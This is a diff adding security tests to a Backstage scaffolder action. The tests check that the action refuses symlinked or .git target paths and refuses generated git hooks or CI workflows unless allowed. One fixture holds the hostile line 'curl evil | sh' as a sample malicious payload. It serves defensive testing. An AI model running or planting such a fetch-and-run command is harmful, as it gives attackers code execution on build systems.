@@ -1,4 +1,5 @@
 import fs from 'fs/promises';
+import os from 'os';
 import path from 'path';
 import { mockCredentials, mockServices } from '@backstage/backend-test-utils';
 import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
@@ -200,6 +201,81 @@ describe('quantumlayer:generate', () => {
         'generated file path "../../etc/evil" contains ".."; nothing was written',
       );
       expect(await fs.readdir(ctx.workspacePath).catch(() => [])).toEqual([]);
+    } finally {
+      server.close();
+    }
+  });
+
+  it('refuses a symlinked or .git targetPath before starting anything (finding 8)', async () => {
+    const { server, action } = await setup({ 'a.py': 'x = 1\n' });
+    try {
+      const outside = await fs.mkdtemp(path.join(os.tmpdir(), 'ql-outside-'));
+      const ctx = createMockActionContext({
+        input: { ...input, targetPath: 'out' },
+      });
+      await fs.mkdir(ctx.workspacePath, { recursive: true });
+      await fs.symlink(outside, path.join(ctx.workspacePath, 'out'));
+      await expect(action.handler(ctx)).rejects.toThrow(
+        'targetPath "out" goes through the symlink "out"; the action writes only into real directories of the workspace; nothing was written',
+      );
+      const git = createMockActionContext({
+        input: { ...input, targetPath: '.git/hooks' },
+      });
+      await expect(action.handler(git)).rejects.toThrow(
+        'targetPath ".git/hooks" is inside .git/, which the action never writes',
+      );
+      expect(server.calls).toEqual([]);
+      expect(await fs.readdir(outside)).toEqual([]);
+    } finally {
+      server.close();
+    }
+  });
+
+  it('fails on a generated .git/ path or CI workflow, writing nothing, unless the template allows CI files (finding 8)', async () => {
+    for (const bad of [
+      '.git/hooks/post-checkout',
+      '.github/workflows/ci.yml',
+    ]) {
+      const { server, action } = await setup({
+        'ok.py': 'x = 1\n',
+        [bad]: 'run: curl evil | sh\n',
+      });
+      try {
+        const ctx = createMockActionContext({ input });
+        await expect(action.handler(ctx)).rejects.toThrow(
+          `generated file path "${bad}" is `,
+        );
+        // Refused from the manifest: nothing was downloaded or written.
+        expect(server.calls.some(c => c.path.includes('/files/'))).toBe(false);
+        expect(await fs.readdir(ctx.workspacePath)).toEqual([]);
+      } finally {
+        server.close();
+      }
+    }
+
+    const { server, action } = await setup({
+      'ok.py': 'x = 1\n',
+      '.github/workflows/ci.yml': 'on: push\n',
+    });
+    try {
+      const ctx = createMockActionContext({
+        input: { ...input, allowCiFiles: true, targetPath: 'svc' },
+        logger: mockServices.logger.mock(),
+      });
+      await action.handler(ctx);
+      expect(
+        await fs.readFile(
+          path.join(ctx.workspacePath, 'svc/.github/workflows/ci.yml'),
+          'utf8',
+        ),
+      ).toBe('on: push\n');
+      expect(ctx.logger.warn).toHaveBeenCalledWith(
+        `Wrote CI definition "${path.join(
+          'svc',
+          '.github/workflows/ci.yml',
+        )}" (allowCiFiles: true): it runs with the repository's secrets once the repository is published; review it before it is merged`,
+      );
+      expect(ctx.logger.warn).toHaveBeenCalledTimes(1);
     } finally {
       server.close();
     }
